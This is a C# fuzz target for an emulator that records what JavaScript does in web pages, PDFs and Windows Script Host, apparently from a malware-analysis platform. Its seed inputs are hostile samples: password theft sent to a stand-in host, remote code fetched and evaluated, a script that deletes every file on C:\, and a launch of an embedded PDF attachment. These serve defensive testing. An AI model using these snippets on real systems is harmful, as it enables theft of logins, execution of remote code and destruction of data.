using System.Text;
using Platform.Engine.Behaviour;
using Platform.Engine.Behaviour.JavaScript;

namespace Platform.Fuzz.Targets.JavaScript;

/// <summary>The emulation of JavaScript in its three worlds, with few steps. Throws when it breaks a promise.</summary>
public static class JavaScriptTarget
{
    private const long Steps = 40_000;

    public const string Tokens = "<script>|</script>|<form action=|<input type=password id=p>|<svg onload=|onclick=|eval(|Function(|atob(|unescape(|String.fromCharCode(|document.write(|innerHTML=|location=|new Blob([|URL.createObjectURL(|.click()|fetch(|new XMLHttpRequest|setTimeout(|=>|async |await |function*|yield |new Proxy(|.repeat(|new Array(|new Uint8Array(|for(;;)|while(|try{|}catch(e){|/(a+)+$/|`${|...|new ActiveXObject('WScript.Shell')|.Run(|.SaveToFile(|GetObject('winmgmts:')|new Enumerator(|this.exportDataObject({cName:'a',nLaunch:2})|app.launchURL(|__proto__|prototype|toString|valueOf|Symbol.iterator|3n|1e9|[]|{}|;";

    public static IReadOnlyList<string> Seeds { get; } =
    [
        "p<html><body><form id=f><input type=password id=p></form><script>f.onsubmit=function(e){fetch('https://a.example/'+btoa(p.value))}</script>",
        "p<script>var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([atob('UEsDBA==')]));a.download='a.zip';a.click()</script>",
        "p<svg onload=\"location='https://a.example/'\"><script><![CDATA[document.write(unescape('%3Cform%3E'))]]></script></svg>",
        "p<div id=d></div><script src=jquery.js></script><script>$('#d').html('<img src=x onerror=eval(1)>').on('click',function(){$.post('https://a.example',$('form').serialize())})</script>",
        "wvar s=new ActiveXObject('WScript.Shell');s.Run('cmd /c '+s.ExpandEnvironmentStrings('%TEMP%'));for(var e=new Enumerator(new ActiveXObject('Scripting.FileSystemObject').GetFolder('C:\\\\').Files);!e.atEnd();e.moveNext())e.item().Delete()",
        "wvar h=new ActiveXObject('MSXML2.XMLHTTP');h.open('GET','http://a.example',false);h.send();eval(h.responseText)",
        "ethis.exportDataObject({cName:'a',nLaunch:2});app.setTimeOut('app.launchURL(\"https://a.example\")',9);util.printf('%5d',event.value)",
        "weval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c]);return p}('0(1)',2,2,'eval|3'.split('|'),0,{}))",
    ];

    public static void Run(ReadOnlySpan<byte> input)
    {
        if (input.IsEmpty)
            return;
        var text = Encoding.UTF8.GetString(input[1..]);
        var script = (input[0] % 4) switch
        {
            0 => new ScriptSource(ScriptLanguage.JavaScript, ScriptHost.Page, "", "script") { Page = text },
            1 => new ScriptSource(ScriptLanguage.JavaScript, ScriptHost.Pdf, text, "script"),
            2 => new ScriptSource(ScriptLanguage.JavaScript, ScriptHost.WindowsScript, "", "script") { Page = text },
            _ => new ScriptSource(ScriptLanguage.JavaScript, ScriptHost.WindowsScript, text, "script"),
        };
        var log = new BehaviourLog(new EmulationBudget(Steps));
        new JavaScriptEmulator().Run(script, log);
        Hold(log.Behaviours.Count <= 200 && log.Addresses.Count <= 200, "a log is bounded");
        Hold(log.Behaviours.All(seen => seen.Value.Length <= 512), "what is told is cut");
        Hold(log.Payloads.Sum(payload => (long)payload.Content.Length) <= 16 * 1024 * 1024, "what is built is bounded");
    }

    private static void Hold(bool promise, string what)
    {
        if (!promise)
            throw new InvalidOperationException($"Broken: {what}.");
    }
}
